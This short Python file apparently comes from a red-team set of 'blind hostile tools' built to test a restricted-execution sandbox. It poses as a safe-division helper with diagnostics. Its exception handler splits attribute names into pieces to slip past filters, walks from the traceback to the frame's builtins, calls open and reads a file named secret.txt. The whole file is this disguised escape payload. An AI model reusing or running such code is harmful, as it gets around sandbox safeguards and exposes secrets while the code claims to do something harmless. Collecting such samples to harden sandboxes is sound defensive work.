# family: traceback (written blind, round 17 of blind hostile tools)
"""Safe division with diagnostics."""


def safe_div(a, b):
    try:
        return a / b
    except ZeroDivisionError as err:
        tb = getattr(err, "_" * 2 + "traceback" + "_" * 2)
        fr = getattr(tb, "tb_" + "frame")
        return getattr(fr, "f_" + "builtins")["open"]("/tmp/r17b/work/secret.txt").read()


print(safe_div(1, 0))
